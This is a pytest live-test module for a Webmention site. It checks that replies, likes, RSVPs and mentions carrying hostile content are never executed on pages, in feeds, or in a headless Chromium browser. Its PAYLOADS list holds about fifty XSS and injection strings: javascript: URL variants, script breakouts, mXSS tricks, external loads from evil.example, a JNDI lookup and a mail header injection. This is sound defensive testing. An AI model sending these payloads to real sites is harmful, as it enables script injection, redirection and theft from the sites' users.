"""
Nothing that somebody sends is executed where it is shown (Webmention §7.3).

Every payload in every field of a page, as a reply, a like, an RSVP and a mention, through the real
endpoint, all under one post; then everything that shows them, read as a browser reads it.
"""

import html
import json
import re
from urllib.parse import urljoin, urlsplit

import mf2py
import pytest
from bs4 import BeautifulSoup
from lxml import etree

from tests.live.running import PATIENCE, people, until

pytestmark = pytest.mark.live

PAYLOADS = {
    "javascript": "javascript:alert(1)",
    "case": "JaVaScRiPt:alert(1)",
    "tab": "java\tscript:alert(1)",
    "entity": "&#106;avascript:alert(1)",
    "control": "\x01javascript:alert(1)",
    "data": "data:text/html,<script>alert(1)</script>",
    "data svg": "data:image/svg+xml,<svg onload=alert(1)>",
    "vbscript": "vbscript:msgbox(1)",
    "blob": "blob:https://x/1",
    "evil": "//evil.example/x.js",
    "quote": 'https://x.example/"onmouseover="alert(1)',
    "apostrophe": "https://x.example/' onfocus=alert(1) autofocus '",
    "end of script": "</script><script>alert(1)</script>",
    "end of title": "</title><script>alert(1)</script>",
    "end of textarea": "</textarea></aside></main><script>alert(1)</script>",
    "img": "<img src=x onerror=alert(1)>",
    "svg": "<svg/onload=alert(1)>",
    "math": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "split": "<<x>img src=x onerror=alert(1)>",
    "unclosed": "<img src=x onerror=alert(1) ",
    "blank": '<a href="https://evil.example/" target=_blank>x</a>',
    "form": '<form action="https://evil.example/"><button formaction="javascript:alert(1)">x</button></form>',
    "base": '<base href="https://evil.example/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "stylesheet": '<link rel=stylesheet href="https://evil.example/x.css">',
    "import": '<style>@import "https://evil.example/x.css";</style>',
    "style": '<p style="position:fixed;inset:0">x</p>',
    "microformats": '<div class="h-entry"><a class="u-url u-in-reply-to" href="https://evil.example/">x</a></div>',
    "comment": '<div class="u-comment h-cite"><p class="p-content">put here</p></div>',
    "clobbering": "<a id=config name=config>x</a><form id=comments><input name=parentNode></form>",
    "iframe": '<iframe srcdoc="<script>alert(1)</script>" src="https://evil.example/"></iframe>',
    "object": '<object data="javascript:alert(1)"></object><embed src="https://evil.example/x.swf">',
    "template": "{{7*7}} {% raw %} ${7*7}",
    "jndi": "${jndi:ldap://evil.example/x}",
    "bidi": "safe\u202egnp.exe\u2066x",
    "invisible": "in\u200bvi\u200dsi\ufeffble",
    "long": "W" * 10_000,
    "zalgo": "z" + "\u0301\u0316\u0337" * 400,
    "CDATA": "]]><script>alert(1)</script><![CDATA[",
    "separator": "x\u2028alert(1)\u2029//",
    "comment end": "--><script>alert(1)</script><!--",
    "header": "x\r\nBcc: everybody@evil.example\r\n\r\n<script>alert(1)</script>",
    "video": "<video src=x onerror=alert(1)><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "details": "<details open ontoggle=alert(1)>x</details>",
    "xlink": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a><use href="data:image/svg+xml,x#x"/></svg>',
    "srcset": '<img srcset="https://evil.example/1.png 1x" src="https://evil.example/2.png">',
    "isindex": "<input autofocus onfocus=alert(1)><select autofocus onfocus=alert(1)>",
    "nul": "java\0script:alert(1)<scr\0ipt>alert(1)</script>",
}

PAGE = """<!doctype html><title>{text}</title><article class="h-entry">
<div class="p-author h-card"><span class="p-name">{text}</span><a class="u-url" href="{text}">a</a>
<img class="u-photo" src="{text}" alt="{text}"><span class="p-nickname">{text}</span></div>
<a class="u-{relation}" href="{post}">about this</a><a class="u-in-reply-to" href="{text}">and that</a>
<h1 class="p-name">{text}</h1><p class="p-summary">{text}</p><a class="u-url" href="{text}">url</a><a class="u-uid" href="{text}">uid</a>
<a class="u-syndication" href="{text}">copy</a><img class="u-photo" src="{text}" alt="{text}">
<data class="p-rsvp" value="{text}"></data>{rsvp}<span class="p-category">{text}</span><a class="u-category" href="{text}">c</a>
<span class="p-location h-card"><span class="p-name">{text}</span><a class="u-url" href="{text}">l</a></span>
<time class="dt-published" datetime="{text}">{text}</time><time class="dt-updated" datetime="{text}">{text}</time>
<div class="u-comment h-cite"><span class="p-author">{text}</span><a class="u-url" href="{text}">u</a><p class="p-content">{text}</p></div>
<div class="e-content" lang="{text}">{text} {raw}</div></article>"""

AS = {
    "reply": ("in-reply-to", ""),
    "like": ("like-of", ""),
    "rsvp": ("in-reply-to", '<data class="p-rsvp" value="yes"></data>'),
    "mention": ("mention", ""),
}

URLS = {"href", "src", "srcset", "action", "formaction", "poster", "data", "cite", "background", "ping", "xlink:href", "longdesc"}
NEVER = ("script", "style", "iframe", "frame", "object", "embed", "base", "math", "applet", "portal", "textarea", "select")


@pytest.fixture(scope="module")
def attacked(tmp_path_factory, hosting):
    """The site with all of it under one post: `site`, `post`, `statuses` (the status URLs)."""
    with hosting(tmp_path_factory.mktemp("scripts") / "data") as site, people("127.0.0.2") as (mallory,):
        site.settings["INDIE_RATE_LIMIT"] = "off"
        site.owner()
        site.start()
        until(site.worker)
        post = site.micropub({"content": ["Try me."]})
        for name, payload in PAYLOADS.items():
            for kind, (relation, rsvp) in AS.items():
                body = PAGE.format(text=html.escape(payload), raw=payload, post=post, relation=relation, rsvp=rsvp)
                mallory.pages[f"/{kind}/{name.replace(' ', '-')}"] = body
        mallory.pages["/reply/longest"] = PAGE.format(
            text="a", raw="b", post=post, relation="in-reply-to", rsvp=""
        ).replace('<span class="p-name">a', f'<span class="p-name">{"W" * 100_000}', 1)
        statuses = [site.mention(mallory.home + path[1:], post) for path in mallory.pages]
        said = [site.told(url) for url in statuses]
        yield {"site": site, "post": post, "statuses": statuses, "said": said}


def faults(text, address, home):
    """What could be executed in a page, or reaches out to others, as an HTML5 parser reads it."""
    soup = BeautifulSoup(text, "html5lib", multi_valued_attributes=None)
    for tag in soup.find_all():
        if tag.name in NEVER:
            yield f"<{tag.name}>"
        if tag.name == "form" and not tag.get("action", "").startswith(home):
            yield str(tag)[:200]
        if tag.name == "meta" and tag.get("http-equiv") and tag.get("content") != "5":
            yield str(tag)[:200]
        for name, value in tag.attrs.items():
            if name.startswith("on") or name in ("style", "srcdoc", "target", "autofocus"):
                yield f"{name} on {str(tag)[:200]}"
            if name in URLS and not is_harmless(tag, value, address, home):
                yield f"{name}={value[:100]} on <{tag.name}>"


def is_harmless(tag, value, address, home):
    """A link leads to http or https (or mailto), whatever is loaded is our own."""
    # As browsers do before they look for a scheme.
    bare = re.sub(r"[\t\r\n]", "", value).strip("".join(map(chr, range(33))))
    parts = urlsplit(urljoin(address, bare))
    if tag.name == "a":
        return parts.scheme in ("http", "https", "mailto")
    return urljoin(address, bare).startswith(home)


def test_all_of_it_is_shown(attacked):
    """Every page is taken: what follows is about something."""
    assert [] == [said["source"] for said in attacked["said"] if said["status"] != "verified"]


@pytest.mark.parametrize("where", ["post", "home", "endpoint", "first comment"])
def test_nothing_on_a_page_is_executable(attacked, where):
    site = attacked["site"]
    number = re.search(r'id="c-(\d+)"', site.page(attacked["post"]))[1]
    url = {
        "post": attacked["post"],
        "home": site.home,
        "endpoint": f"{site.home}webmention",
        "first comment": f"{site.home}c/{number}",
    }[where]
    assert [] == list(faults(site.http.get(url, timeout=PATIENCE).text, url, site.home))


def test_nothing_on_a_status_page_is_executable(attacked):
    """Of each of them, as a browser sees it."""
    site = attacked["site"]
    found = {}
    for url in attacked["statuses"]:
        page = site.http.get(url, headers={"Accept": "text/html"}, timeout=PATIENCE)
        assert page.headers["Content-Type"].startswith("text/html")
        found[url] = list(faults(page.text, url, site.home))
    assert [] == [fault for each in found.values() for fault in each]


def test_nothing_on_the_page_of_any_comment_is_executable(attacked):
    site = attacked["site"]
    numbers = re.findall(r'id="c-(\d+)"', site.page(attacked["post"]))
    pages = {url: site.http.get(url, timeout=PATIENCE) for url in (f"{site.home}c/{number}" for number in numbers[::7])}
    assert [] == [fault for url, page in pages.items() for fault in faults(page.text, url, site.home)]


ASKED = {
    "jf2": "api/mentions.jf2?target={post}&per-page=1000",
    "count": "api/count?target={post}",
    "format jf2": "{post}?format=jf2",
    "format mf2json": "{post}?format=mf2json",
    "format jsonfeed": "{post}?format=jsonfeed",
    "format atom": "{post}?format=atom",
    "feed": "feed",
    "feed.json": "feed.json",
    "responses": "api/mentions.atom?target={post}",
    "responses.json": "api/mentions.json?target={post}",
    "status": "{status}",
}


@pytest.mark.parametrize("name", ASKED)
def test_nothing_in_a_feed_is_executable(attacked, name):
    """JSON in which no `<` can end a script; HTML in it and in Atom as clean as on the page; and no type but its own."""
    site = attacked["site"]
    url = urljoin(site.home, ASKED[name].format(post=attacked["post"], status=attacked["statuses"][0]))
    answer = site.http.get(url, headers={"Accept": "application/json, */*;q=0.1"}, timeout=PATIENCE)
    kind = answer.headers["Content-Type"].partition(";")[0]
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    if answer.status_code == 404:
        values = []
    elif kind.endswith("json"):
        assert [] == re.findall(r"</script|<!--|\u2028|\u2029", answer.text, re.IGNORECASE)
        values = list(strings(json.loads(answer.text)))
    elif kind.endswith("xml"):
        values = list(of_atom(etree.fromstring(answer.content, etree.XMLParser(resolve_entities=False))))
    else:
        assert kind == "text/html"
        values = [("html", answer.text)]
    assert [] == [fault for key, value in values for fault in faults_of(key, value, url, site.home)]


def strings(value, key=""):
    """Every string of some JSON, each with the key it stands under."""
    if isinstance(value, dict):
        for name, one in value.items():
            yield from strings(one, name)
    elif isinstance(value, list):
        for one in value:
            yield from strings(one, key)
    elif isinstance(value, str):
        yield key, value


def of_atom(root):
    """Every text and address of a feed of XML."""
    for element in root.iter():
        yield ("html" if element.get("type") == "html" else "text"), element.text or ""
        for name in ("href", "src", "uri"):
            yield "url", element.get(name) or ""


ADDRESSES = ("url", "photo", "uid", "syndication", "home_page_url", "external_url", "avatar")


def faults_of(key, value, address, home):
    """What is wrong with one value of a feed: of HTML, as on a page; of an address, that it is none of the web."""
    if key in ("html", "content_html"):
        yield from faults(value, address, home)
    elif key in ADDRESSES and value and urlsplit(value).scheme not in ("http", "https"):
        yield f"{key}={value[:100]}"


class TestPollution:
    """What the payloads say of themselves does not become what our page says."""

    @pytest.fixture(scope="class")
    @staticmethod
    def entry(attacked):
        post = attacked["post"]
        items = mf2py.parse(doc=attacked["site"].page(post), url=post, html_parser="lxml")["items"]
        assert [["h-entry"]] == [item["type"] for item in items]
        return items[0]

    def test_the_entry_keeps_its_own_properties(self, attacked, entry):
        of = entry["properties"]
        assert ([attacked["post"]], ["Try me."], None) == (of["url"], [of["content"][0]["value"]], of.get("in-reply-to"))

    def test_nobody_speaks_in_anybodys_name(self, attacked, entry):
        """No comment has a second author, address or entry within its words."""
        comments = entry["properties"]["comment"]
        assert {1} == {len(comment["properties"]["author"]) for comment in comments}
        assert {1} == {len(comment["properties"]["url"]) for comment in comments}

    def test_no_id_stands_twice(self, attacked):
        ids = [tag["id"] for tag in BeautifulSoup(attacked["site"].page(attacked["post"]), "html5lib").select("[id]")]
        assert len(ids) == len(set(ids))

    def test_a_template_is_words(self, attacked):
        assert "{{7*7}} {% raw %} ${7*7}" in attacked["site"].page(attacked["post"])

    def test_names_are_short_and_run_one_way(self, attacked):
        """A hundred characters, one line, nothing that turns the direction or cannot be seen."""
        cards = BeautifulSoup(attacked["site"].page(attacked["post"]), "html5lib").select("#comments .p-author .p-name")
        names = [card.get_text() for card in cards]
        assert max(map(len, names)) <= 101
        assert [] == [name for name in names if re.search("[\u202a-\u202e\u2066-\u2069\u200b\ufeff\r]", name)]


class TestChromium:
    @pytest.fixture(scope="class")
    @staticmethod
    def seen(attacked, chromium):
        """What a real browser did with the page: dialogs, errors, and whom it asked."""
        context = chromium.new_context(viewport={"width": 1100, "height": 800})
        page, seen = context.new_page(), {"dialogs": [], "console": [], "asked": [], "went": []}
        page.on("dialog", lambda dialog: (seen["dialogs"].append(dialog.message), dialog.dismiss()))
        page.on("console", lambda message: seen["console"].append(message.text))
        page.on("pageerror", lambda error: seen["console"].append(str(error)))
        page.on("request", lambda request: seen["asked"].append(request.url))
        for url in (attacked["post"], attacked["site"].home, attacked["statuses"][0]):
            page.goto(url, wait_until="networkidle")
            for summary in page.locator("#comments summary").all():
                summary.click()
            page.mouse.move(500, 400)
            page.mouse.wheel(0, 5000)
            seen["went"].append(page.url == url)
        seen["wide"] = page.evaluate("document.documentElement.scrollWidth")
        context.close()
        return seen

    def test_nothing_speaks_up(self, seen):
        assert ([], []) == (seen["dialogs"], seen["console"])

    def test_nobody_else_is_asked(self, seen, attacked):
        assert [] == [url for url in seen["asked"] if not url.startswith(attacked["site"].home)]

    def test_it_goes_nowhere(self, seen):
        assert all(seen["went"])
